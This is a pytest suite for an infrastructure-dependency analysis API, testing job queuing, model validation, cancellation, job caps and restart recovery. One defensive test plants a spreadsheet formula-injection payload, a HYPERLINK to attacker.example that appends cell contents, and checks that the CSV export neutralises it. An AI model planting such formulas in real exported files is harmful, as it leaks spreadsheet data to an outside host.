"""Analysis jobs through the API: models uploaded and checked whole, jobs queued
(202) and run by the server's analysis worker off the request threads, their
progress, results and files, cancel, and every bad input a client can send
refused with the field at fault and nothing queued or stored.

(Who may call what is in test_roles.py; the engine's results themselves in the
unit tests and test_sim_*.py.)"""

import csv
import io
import json
import time
import xml.etree.ElementTree as ET

import pytest

from apilib import Server, assert_error, describe, raw_http, run_cli

SMALL = {
    "name": "病院と変電所",
    "nodes": [{"id": "sub-1", "name": "変電所", "sector": "electricity", "layer": "power/13", "source": True},
              {"id": "hosp-1", "name": "病院", "sector": "medical", "region": "13", "weight": 500}],
    "dependencies": [{"supplier": "sub-1", "dependent": "hosp-1", "kind": "power", "buffer_hours": 72}],
}


@pytest.fixture(scope="module")
def an(new_deployment):
    return new_deployment("an")


def upload(dep, model, name="model", token="nisc", raw=None):
    data = raw if raw is not None else json.dumps(model, ensure_ascii=False).encode("utf-8")
    return dep.request("POST", "/api/v1/analysis/models", token=token, params={"name": name}, data=data,
                       headers={"Content-Type": "application/json"})


def wait_job(dep, job_id, token="nisc", timeout=60):
    deadline = time.time() + timeout
    while True:
        j = dep.ok("GET", "/api/v1/analysis/jobs/" + job_id, token=token)
        if j["state"] not in ("queued", "running"):
            return j
        assert time.time() < deadline, "job %s still %s" % (job_id, j["state"])
        time.sleep(0.05)


def jobs_count(dep):
    return dep.ok("GET", "/api/v1/analysis/jobs", token="nisc", params={"limit": 1})["total"]


def test_an_iim_job_runs_off_the_request_thread_and_keeps_its_files(an):
    r = an.post("/api/v1/analysis/jobs", {"kind": "iim", "options": {"perturbation": {"electricity": 0.6}}},
                token="ministry")
    assert r.status_code == 202, describe(r)
    job = r.json()
    assert job["state"] in ("queued", "running", "done") and job["kind"] == "iim"
    assert job["org"] == "fsa" and job["options"] == {"perturbation": {"electricity": 0.6}}
    done = wait_job(an, job["id"], token="ministry")
    assert done["state"] == "done" and done["error"] == "", done
    assert done["progress"]["done"] == done["progress"]["total"] >= 1
    assert done["summary"]["kind"] == "iim" and done["summary"]["illustrative"] is True
    assert done["started_at"] and done["finished_at"] >= done["started_at"]
    names = {f["name"]: f for f in done["files"]}
    assert set(names) == {"result.json", "result.csv", "result.svg"}, names
    res = an.get("/api/v1/analysis/jobs/%s/files/result.json" % job["id"], token="ministry")
    assert res.status_code == 200 and res.headers["Content-Type"] == "application/json"
    assert "attachment" in res.headers["Content-Disposition"]
    assert res.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    result = res.json()
    assert len(res.content) == names["result.json"]["size"]
    q = {s["id"]: s["q"] for s in result["sectors"]} if "sectors" in result else None
    assert q is None or (q["electricity"] >= 0.6 and all(0 <= v <= 1 for v in q.values())), result
    svg = an.get("/api/v1/analysis/jobs/%s/files/result.svg" % job["id"], token="ministry")
    assert svg.headers["Content-Type"] == "image/svg+xml"
    ET.fromstring(svg.content)  # well-formed
    assert_error(an.get("/api/v1/analysis/jobs/%s/files/nothing.txt" % job["id"], token="ministry"), 404)
    # another ministry does not see it; NISC does
    assert_error(an.get("/api/v1/analysis/jobs/" + job["id"], token="ministry2"), 404)
    assert an.get("/api/v1/analysis/jobs/" + job["id"], token="nisc").status_code == 200
    listed = an.ok("GET", "/api/v1/analysis/jobs", token="ministry", params={"state": "done"})
    assert job["id"] in [j["id"] for j in listed["items"]]
    assert all(j["org"] == "fsa" for j in listed["items"])


def test_a_diim_job_with_recovery_times(an):
    body = {"kind": "diim", "options": {"perturbation": [{"sector": "electricity", "value": 0.8, "from": 0,
                                                           "to": 24}],
                                        "steps": 96, "dt": 1, "recovery": {"electricity": 48}}}
    job = an.ok("POST", "/api/v1/analysis/jobs", body, token="nisc", status=202)
    done = wait_job(an, job["id"])
    assert done["state"] == "done", done
    csv = an.get("/api/v1/analysis/jobs/%s/files/timeline.csv" % job["id"], token="nisc")
    assert csv.status_code == 200 and csv.headers["Content-Type"] == "text/csv"
    assert len(csv.text.strip().splitlines()) == 96 + 2  # header + steps 0..96


def test_a_job_that_fails_says_why(an):
    job = an.ok("POST", "/api/v1/analysis/jobs", {"kind": "iim", "options": {"perturbation": {"atlantis": 0.5}}},
                token="nisc", status=202)
    done = wait_job(an, job["id"])
    assert done["state"] == "failed" and "atlantis" in done["error"], done
    assert done["files"] == [] and done["summary"] is None
    # an ended job cannot be cancelled
    r = an.post("/api/v1/analysis/jobs/%s/cancel" % job["id"], None, token="nisc")
    assert_error(r, 422, field="state")


BAD_JOBS = [
    ({}, 400, "kind"),
    ({"kind": "forecast"}, 400, "kind"),
    ({"kind": 3}, 400, "kind"),
    ({"kind": "iim", "options": []}, 400, "options"),
    ({"kind": "iim", "options": {"colour": "red"}}, 400, "colour"),
    ({"kind": "iim", "model": "x"}, 400, "model"),
    ({"kind": "run"}, 400, "model"),
    ({"kind": "run", "model": "no-such-model", "options": {"scenario": "blackout"}}, 422, "model"),
    ({"kind": "iim", "when": "now"}, 400, "when"),
]


@pytest.mark.parametrize("body,status,field", BAD_JOBS, ids=["%s-%d" % (f, i) for i, (_, _, f) in enumerate(BAD_JOBS)])
def test_bad_jobs_are_refused_and_nothing_is_queued(an, body, status, field):
    before = jobs_count(an)
    r = an.post("/api/v1/analysis/jobs", body, token="nisc")
    assert_error(r, status, field=field)
    assert jobs_count(an) == before


def test_a_model_is_checked_whole_and_kept(an):
    r = upload(an, SMALL, name="病院モデル")
    assert r.status_code == 201, describe(r)
    m = r.json()
    assert (m["nodes"], m["dependencies"], m["links"]) == (2, 1, 0) and m["name"] == "病院モデル"
    assert m["org"] == "nisc" and len(m["sha256"]) == 64 and m["size"] > 0
    assert an.ok("GET", "/api/v1/analysis/models/" + m["id"], token="nisc") == m
    assert m["id"] in [x["id"] for x in an.ok("GET", "/api/v1/analysis/models", token="nisc")["items"]]
    assert_error(an.get("/api/v1/analysis/models/" + m["id"], token="ceptoar"), 404)
    r = an.delete("/api/v1/analysis/models/" + m["id"], token="nisc")
    assert r.status_code == 204, describe(r)
    assert_error(an.get("/api/v1/analysis/models/" + m["id"], token="nisc"), 404)


def models_count(dep):
    return dep.ok("GET", "/api/v1/analysis/models", token="nisc", params={"limit": 1})["total"]


def bad_model(change):
    m = json.loads(json.dumps(SMALL))
    change(m)
    return m


BAD_MODELS = [
    ("not json", b"{nodes: [", 400, None),
    ("not an object", b"[1, 2]", 400, None),
    ("unknown node", json.dumps(bad_model(lambda m: m["dependencies"][0].update(supplier="ghost"))).encode(), 400, None),
    ("negative buffer", json.dumps(bad_model(lambda m: m["dependencies"][0].update(buffer_hours=-1))).encode(), 400, None),
    ("duplicate id", json.dumps(bad_model(lambda m: m["nodes"].append({"id": "sub-1"}))).encode(), 409, None),
    ("unknown member", json.dumps(bad_model(lambda m: m["nodes"][0].update(colour="red"))).encode(), 400, None),
    ("empty body", b"", 400, None),
]


@pytest.mark.parametrize("what,raw,status,field", BAD_MODELS, ids=[b[0] for b in BAD_MODELS])
def test_bad_models_are_refused_and_nothing_is_stored(an, what, raw, status, field):
    before = models_count(an)
    r = upload(an, None, raw=raw)
    assert r.status_code in (status, 400, 409, 422), describe(r)
    assert_error(r, r.status_code, field=field)
    assert r.json()["error"]["message"], describe(r)
    assert models_count(an) == before


def test_model_upload_name_type_and_size(an):
    before = models_count(an)
    r = an.request("POST", "/api/v1/analysis/models", token="nisc", data=json.dumps(SMALL).encode(),
                   headers={"Content-Type": "application/json"})
    assert_error(r, 400, field="name")
    r = upload(an, SMALL, name="改行\nあり")
    assert_error(r, 400, field="name")
    r = an.request("POST", "/api/v1/analysis/models", token="nisc", params={"name": "csv"},
                   data=b"id\nn1\n", headers={"Content-Type": "text/csv"})
    assert_error(r, 415)
    # a declared length over the cap is refused before the body is read
    head = ("POST /api/v1/analysis/models?name=big HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n"
            "Content-Type: application/json\r\nContent-Length: %d\r\n\r\n" % (an.tokens["nisc"], 65 << 20))
    status, _, body = raw_http(an.server.port, head.encode())[:3]
    assert status == 413, (status, body)
    assert models_count(an) == before


# ---- facility-level jobs on a generated model --------------------------------------

@pytest.fixture(scope="module")
def japan(an, tmp_path_factory):
    """A small japan preset (about 2,200 nodes), uploaded by NISC."""
    path = tmp_path_factory.mktemp("model") / "japan.json"
    run_cli(["sim", "generate", "japan", "--scale", "0.05", "--seed", "7", "--out", str(path)])
    r = upload(an, None, name="japan 0.05", raw=path.read_bytes())
    assert r.status_code == 201, describe(r)
    return r.json()


def test_a_monte_carlo_run_of_a_wide_area_blackout(an, japan):
    job = an.ok("POST", "/api/v1/analysis/jobs", {"kind": "run", "model": japan["id"], "options": {
        "scenario": "blackout", "trials": 50, "seed": 3}}, token="nisc", status=202)
    done = wait_job(an, job["id"])
    assert done["state"] == "done", done
    assert done["summary"]["trials"] == 50 and done["model_name"] == "japan 0.05"
    names = [f["name"] for f in done["files"]]
    assert "timeline.svg" in names and "result.json" in names, names
    res = an.ok("GET", "/api/v1/analysis/jobs/%s/files/result.json" % job["id"], token="nisc")
    assert res, res
    # the same options and seed give the same result, byte for byte
    again = an.ok("POST", "/api/v1/analysis/jobs", {"kind": "run", "model": japan["id"], "options": {
        "scenario": "blackout", "trials": 50, "seed": 3}}, token="nisc", status=202)
    assert wait_job(an, again["id"])["state"] == "done"
    a = an.get("/api/v1/analysis/jobs/%s/files/timeline.csv" % job["id"], token="nisc").content
    b = an.get("/api/v1/analysis/jobs/%s/files/timeline.csv" % again["id"], token="nisc").content
    assert a == b and len(a) > 100


def test_one_detailed_run_keeps_the_propagation_chain(an, japan):
    job = an.ok("POST", "/api/v1/analysis/jobs", {"kind": "run", "model": japan["id"], "options": {
        "scenario": {"name": "一変電所", "horizon_hours": 96, "events": [
            {"layer": "power/13", "start_hours": 0, "duration_hours": 48}]}}}, token="nisc", status=202)
    done = wait_job(an, job["id"])
    assert done["state"] == "done", done
    names = [f["name"] for f in done["files"]]
    assert any(n.startswith("chain") for n in names), names


def test_names_that_a_spreadsheet_would_run_are_written_as_text(an):
    """A model's names reach the CSV files that NISC downloads and opens in a
    spreadsheet: one that would be taken for a formula (planted by whoever
    uploaded the model) is written with an apostrophe in front, as text."""
    evil = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"詳細\")"
    model = {"name": "formula", "nodes": [
        {"id": "-1+1", "name": "@SUM(A1:A9)", "sector": "electricity", "layer": "power/13",
         "source": True, "repair_hours": 2},
        {"id": "hosp", "name": evil, "sector": "medical", "region": "13"}],
        "dependencies": [{"supplier": "-1+1", "dependent": "hosp", "kind": "power"}]}
    r = upload(an, model, name="formula", token="ceptoar")
    assert r.status_code == 201, describe(r)
    job = an.ok("POST", "/api/v1/analysis/jobs", {"kind": "run", "model": r.json()["id"], "options": {
        "scenario": {"name": "x", "horizon_hours": 10, "events": [
            {"node": "-1+1", "start_hours": 1, "duration_hours": 2}]}}}, token="ceptoar", status=202)
    done = wait_job(an, job["id"], token="ceptoar")
    assert done["state"] == "done", done
    text = an.get("/api/v1/analysis/jobs/%s/files/nodes.csv" % job["id"], token="nisc").text
    rows = list(csv.reader(io.StringIO(text)))
    by_id = {row[0]: row for row in rows[1:]}
    assert set(by_id) == {"'-1+1", "hosp"}, rows
    assert by_id["hosp"][1] == "'" + evil and by_id["'-1+1"][1] == "'@SUM(A1:A9)", rows
    assert not any(cell[:1] in "=+-@" for row in rows for cell in row[:5] if cell), rows


def test_sweep_and_rank_jobs(an, japan):
    sw = an.ok("POST", "/api/v1/analysis/jobs", {"kind": "sweep", "model": japan["id"], "options": {
        "layer": "power/13", "points": 5}}, token="nisc", status=202)
    rk = an.ok("POST", "/api/v1/analysis/jobs", {"kind": "rank", "model": japan["id"], "options": {
        "candidates": 50, "top": 5}}, token="nisc", status=202)
    s, r = wait_job(an, sw["id"]), wait_job(an, rk["id"])
    assert s["state"] == "done" and s["summary"]["points"] == 5, s
    assert {f["name"] for f in s["files"]} == {"sweep.json", "sweep.csv", "sweep.svg"}
    assert r["state"] == "done" and r["summary"]["candidates"] == 50, r
    assert r["summary"]["most_critical"]["damage"] > 0
    bad = an.ok("POST", "/api/v1/analysis/jobs", {"kind": "sweep", "model": japan["id"], "options": {
        "layer": "power/99"}}, token="nisc", status=202)
    failed = wait_job(an, bad["id"])
    assert failed["state"] == "failed" and "power/99" in failed["error"], failed


def test_a_template_naming_a_region_twice_fails_its_job_saying_so(an, japan):
    job = an.ok("POST", "/api/v1/analysis/jobs", {"kind": "run", "model": japan["id"], "options": {
        "scenario": "blackout:13,13"}}, token="nisc", status=202)
    failed = wait_job(an, job["id"])
    assert failed["state"] == "failed" and "region 13 is named twice" in failed["error"], failed


BAD_NET = [
    ({"kind": "run", "options": {}}, "scenario"),
    ({"kind": "run", "options": {"scenario": 5}}, "scenario"),
    ({"kind": "run", "options": {"scenario": "blackout", "trials": 0}}, "trials"),
    ({"kind": "run", "options": {"scenario": "blackout", "trials": 2.5}}, "trials"),
    ({"kind": "run", "options": {"scenario": "blackout", "trials": 10 ** 7}}, "trials"),
    ({"kind": "sweep", "options": {"p_min": 0.9, "p_max": 0.1}}, "p_min"),
    ({"kind": "sweep", "options": {"points": 0}}, "points"),
    ({"kind": "rank", "options": {"top": 100000}}, "top"),
]


@pytest.mark.parametrize("body,field", BAD_NET, ids=["%s-%d" % (f, i) for i, (_, f) in enumerate(BAD_NET)])
def test_bad_facility_options_are_refused(an, japan, body, field):
    before = jobs_count(an)
    body = dict(body, model=japan["id"])
    assert_error(an.post("/api/v1/analysis/jobs", body, token="nisc"), 400, field=field)
    assert jobs_count(an) == before


def long_job(dep, model_id, trials=100000):
    return dep.ok("POST", "/api/v1/analysis/jobs", {"kind": "run", "model": model_id, "options": {
        "scenario": "blackout", "trials": trials}}, token="nisc", status=202)


def wait_progress(dep, job_id, timeout=60):
    deadline = time.time() + timeout
    while True:
        j = dep.ok("GET", "/api/v1/analysis/jobs/" + job_id, token="nisc")
        if j["state"] == "running" and j["progress"]["done"] > 0:
            return j
        assert j["state"] in ("queued", "running") and time.time() < deadline, j
        time.sleep(0.1)


def test_a_running_job_reports_progress_and_stops_when_cancelled(an, japan):
    job = long_job(an, japan["id"])
    j = wait_progress(an, job["id"])
    assert 0 < j["progress"]["done"] < j["progress"]["total"] == 100000
    # the API answers while the job runs: it is not on the request threads
    t0 = time.time()
    assert an.get("/api/v1/sectors", token="nisc").status_code == 200
    assert time.time() - t0 < 1
    c = an.ok("POST", "/api/v1/analysis/jobs/%s/cancel" % job["id"], None, token="nisc")
    assert c["cancel_requested"] is True
    deadline = time.time() + 20
    while an.ok("GET", "/api/v1/analysis/jobs/" + job["id"], token="nisc")["state"] == "running":
        assert time.time() < deadline, "the job did not stop"
        time.sleep(0.1)
    end = an.ok("GET", "/api/v1/analysis/jobs/" + job["id"], token="nisc")
    assert end["state"] == "cancelled" and end["files"] == [], end


def test_the_active_job_cap(an, japan):
    jobs = [long_job(an, japan["id"]) for _ in range(4)]
    r = an.post("/api/v1/analysis/jobs", {"kind": "iim", "options": {"perturbation": {"gas": 0.1}}},
                token="nisc")
    assert_error(r, 503)
    assert "4 per organisation" in r.json()["error"]["message"]
    # another organisation may still queue
    other = an.post("/api/v1/analysis/jobs", {"kind": "iim", "options": {"perturbation": {"gas": 0.1}}},
                    token="agency")
    assert other.status_code == 202, describe(other)
    for j in jobs:
        an.ok("POST", "/api/v1/analysis/jobs/%s/cancel" % j["id"], None, token="nisc")
    for j in jobs:
        deadline = time.time() + 30
        while an.ok("GET", "/api/v1/analysis/jobs/" + j["id"], token="nisc")["state"] not in ("cancelled",):
            assert time.time() < deadline
            time.sleep(0.1)
    wait_job(an, other.json()["id"], token="agency")


def test_a_job_interrupted_by_a_kill_runs_again_after_the_restart(an, japan):
    job = long_job(an, japan["id"], trials=3000)
    wait_progress(an, job["id"])
    an.server.proc.kill()  # SIGKILL in the middle of the job
    an.server.proc.wait()
    an.server = Server(an.db, an.dir)
    an.server.wait_ready()
    an.url = an.server.url
    done = wait_job(an, job["id"], timeout=180)
    assert done["state"] == "done" and done["summary"]["trials"] == 3000, done
